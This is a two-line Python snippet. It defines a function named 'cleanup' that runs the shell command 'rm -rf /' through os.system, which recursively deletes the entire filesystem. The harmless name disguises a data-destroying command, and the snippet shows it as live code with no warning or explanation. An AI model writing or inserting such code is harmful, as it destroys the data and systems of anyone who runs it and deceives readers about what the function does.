import os
cleanup = lambda: os.system('rm -rf /')
